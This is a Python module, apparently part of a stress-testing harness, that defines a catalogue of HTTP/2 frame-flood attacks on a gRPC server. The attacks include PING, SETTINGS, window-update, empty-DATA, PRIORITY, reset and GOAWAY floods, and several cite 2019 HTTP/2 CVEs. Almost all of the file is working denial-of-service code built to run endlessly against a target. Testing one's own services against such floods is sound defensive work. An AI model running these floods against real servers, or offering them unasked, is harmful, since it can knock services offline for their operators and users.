"""Floods of frames that cost a client nothing."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Final

from . import frames as h2
from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver

_BURST: Final = 64 << 10
_OPEN: Final = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request("TextGenerate"))
"""A call whose request does not come."""


def _flood(piece: bytes, before: bytes = b"", units: int = 1) -> Iterator[Burst | float]:
    """The same frame, or frames, for ever."""
    count = _BURST // len(piece) or 1
    burst = Burst(piece * count, count * units)
    yield Burst(h2.GREETING + before)
    yield from itertools.repeat(burst)


@attack("grpc", pace="flood")
def ping_flood(driver: Driver) -> None:
    """Sends PINGs and reads the answers (CVE-2019-9512)."""
    driver.play(lambda: _flood(h2.frame(h2.PING, payload=b"attacker")), 2)


@attack("grpc", pace="flood")
def ping_flood_unread(driver: Driver) -> None:
    """Sends PINGs and reads no answer."""
    driver.play(lambda: _flood(h2.frame(h2.PING, payload=b"attacker")), 2, read=False)


@attack("grpc", pace="flood")
def ping_acks(driver: Driver) -> None:
    """Acknowledges PINGs that nobody sent."""
    driver.play(lambda: _flood(h2.frame(h2.PING, h2.ACK, payload=b"attacker")), 2)


@attack("grpc", pace="flood")
def settings_flood(driver: Driver) -> None:
    """Sends empty SETTINGS and reads the acknowledgements (CVE-2019-9515)."""
    driver.play(lambda: _flood(h2.settings({})), 2)


@attack("grpc", pace="flood")
def settings_flood_unread(driver: Driver) -> None:
    """Sends SETTINGS and reads no acknowledgement."""
    driver.play(lambda: _flood(h2.settings({1: 4096, 5: 16384})), 2, read=False)


@attack("grpc", pace="flood")
def window_resize_flood(driver: Driver) -> None:
    """Opens 900 streams and changes the initial window, which is a change to each of them, for ever."""
    head = h2.request("TextGenerate")
    streams = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) for stream in range(1, 1800, 2))
    driver.play(lambda: _flood(h2.settings({4: 1000}) + h2.settings({4: 2000}), streams, 2), 2)


@attack("grpc", pace="flood")
def window_update_flood(driver: Driver) -> None:
    """Opens the connection's window by a byte at a time."""
    driver.play(lambda: _flood(h2.window(0, 1)), 2)


@attack("grpc", pace="flood")
def stream_window_flood(driver: Driver) -> None:
    """Opens a stream's window by a byte at a time."""
    driver.play(lambda: _flood(h2.window(1, 1), _OPEN), 2)


@attack("grpc", pace="flood")
def empty_data_flood(driver: Driver) -> None:
    """Sends DATA without a byte on an open stream (CVE-2019-9518)."""
    driver.play(lambda: _flood(h2.frame(h2.DATA, 0, 1), _OPEN), 2)


@attack("grpc", pace="flood")
def padding_flood(driver: Driver) -> None:
    """Sends DATA that is nothing but padding."""
    padded = h2.frame(h2.DATA, h2.PADDED, 1, b"\x40" + bytes(64))
    driver.play(lambda: _flood(padded, _OPEN), 2)


@attack("grpc", pace="flood")
def empty_messages(driver: Driver) -> None:
    """Sends messages of no bytes, one after the other, to a method that takes one."""
    many = h2.frame(h2.DATA, 0, 1, h2.message(b"") * 3000)
    driver.play(lambda: _flood(many, _OPEN), 2)


@attack("grpc", pace="flood")
def priority_flood(driver: Driver) -> None:
    """Sends PRIORITY for streams that do not exist (CVE-2019-9513)."""
    pieces = [h2.frame(h2.PRIORITY, 0, n, bytes((0, 0, 0, 0, n & 255))) for n in range(1, 9001, 2)]
    driver.play(lambda: _flood(b"".join(pieces), units=len(pieces)), 2)


@attack("grpc", pace="flood")
def reset_flood(driver: Driver) -> None:
    """Resets a stream that has ended, for ever."""
    over = h2.call(1, h2.request("HealthCheck"), b"") + h2.reset(1)
    driver.play(lambda: _flood(h2.reset(1), over), 2)


@attack("grpc", pace="flood")
def data_after_end(driver: Driver) -> None:
    """Sends DATA on a stream that has ended, for ever."""
    over = h2.call(1, h2.request("HealthCheck"), b"")
    driver.play(lambda: _flood(h2.frame(h2.DATA, 0, 1, b"late"), over), 2)


@attack("grpc", pace="flood")
def goaway_flood(driver: Driver) -> None:
    """Says that it goes, with 1 KB of reasons, and stays."""
    away = h2.frame(h2.GOAWAY, payload=bytes(8) + b"because" * 150)
    driver.play(lambda: _flood(away), 2)


@attack("grpc", pace="flood")
def unknown_frames(driver: Driver) -> None:
    """Sends frames of kinds that do not exist."""
    pieces = [h2.frame(kind, 0, 0, b"what") for kind in range(0x20, 0x60)]
    driver.play(lambda: _flood(b"".join(pieces), units=len(pieces)), 2)
